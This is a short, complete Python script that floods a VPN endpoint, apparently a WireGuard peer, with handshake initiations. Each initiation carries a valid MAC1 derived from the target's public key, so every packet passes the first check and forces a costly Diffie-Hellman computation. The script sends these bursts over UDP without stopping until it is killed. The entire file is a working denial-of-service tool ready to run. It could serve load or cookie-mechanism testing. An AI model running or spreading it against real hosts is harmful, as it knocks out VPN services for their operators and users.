#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""flood.py - initiations with a right MAC1 and nothing else right.

usage: flood.py ADDRESS PORT PUBLIC-KEY-BASE64 [BURST [PAUSE-SECONDS]]
Sends bursts until it is killed, so that the receiver goes under load: each
message passes the MAC1 check and would cost a Diffie-Hellman.
"""
import base64
import hashlib
import os
import socket
import sys
import time


def initiation(mac1_key):
    head = b"\x01\0\0\0" + os.urandom(112)
    mac1 = hashlib.blake2s(head, key=mac1_key, digest_size=16).digest()
    return head + mac1 + bytes(16)


def main():
    address, port, key = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    burst = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
    pause = float(sys.argv[5]) if len(sys.argv) > 5 else 0.2
    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
    messages = [initiation(mac1_key) for _ in range(burst)]
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        while True:
            for message in messages:
                try:
                    s.sendto(message, (address, port))
                except OSError:
                    pass
            time.sleep(pause)


if __name__ == "__main__":
    main()
